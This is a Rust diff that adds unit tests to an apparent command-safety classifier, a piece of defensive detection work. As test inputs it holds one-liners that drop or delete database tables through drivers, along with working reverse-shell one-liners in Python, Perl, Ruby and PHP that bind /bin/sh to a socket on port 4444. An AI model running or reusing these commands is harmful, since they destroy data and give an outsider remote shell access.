@@ -415,3 +415,46 @@ fn js_shell_tagged_templates_run_their_line() {
     let jq = effects("node -e '$(\"div\").hide()'");
     assert!(jq.iter().all(|e| !e.starts_with("delete")), "{jq:?}");
 }
+
+#[test]
+fn sql_given_to_a_driver_is_read_as_sql() {
+    for line in [
+        "python3 -c \"import sqlite3; sqlite3.connect('app.db').execute('DROP TABLE users')\"",
+        "python -c \"import sqlite3; c=sqlite3.connect('a.db'); c.executescript('DELETE FROM users;')\"",
+        "python -c \"from sqlalchemy import text; e.connect().execute(text('TRUNCATE TABLE t'))\"",
+        "node -e \"const db=require('better-sqlite3')('a.db'); db.exec('DROP TABLE users')\"",
+        "node -e \"const {Client}=require('pg'); const c=new Client(); c.connect(); c.query('DROP SCHEMA public CASCADE')\"",
+        "node -e \"db.prepare('DELETE FROM users').run()\"",
+        "ruby -e \"require 'sqlite3'; SQLite3::Database.new('a.db').execute('DROP TABLE t')\"",
+    ] {
+        assert!(has(line, "db_destroy@none"), "{line}: {:?}", effects(line));
+    }
+    for line in [
+        "python3 -c \"import sqlite3; print(sqlite3.connect('app.db').execute('SELECT count(*) FROM users').fetchone())\"",
+        "node -e \"db.prepare('SELECT * FROM users WHERE id = ?').get(1)\"",
+        "python -c \"cur.execute('update_stats')\"",
+        "node -e \"const r = /a/.exec('abc'); console.log(r)\"",
+    ] {
+        assert!(!has(line, "db_destroy@none"), "{line}: {:?}", effects(line));
+    }
+}
+
+#[test]
+fn a_shell_handed_to_a_socket_is_remote_code() {
+    for line in [
+        "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
+        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
+        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"h\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
+        "ruby -rsocket -e 'f=TCPSocket.open(\"h\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+        "php -r '$s=fsockopen(\"h\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+    ] {
+        assert!(has(line, "remote_exec@none"), "{line}: {:?}", effects(line));
+    }
+    for line in [
+        "python -c 'import socket; print(socket.gethostname())'",
+        "python3 -c 'import socket; s=socket.socket(); s.connect((\"localhost\", 5432)); print(\"ok\")'",
+        "node -e \"require('child_process').execSync('ls')\"",
+    ] {
+        assert!(!has(line, "remote_exec@none"), "{line}: {:?}", effects(line));
+    }
+}
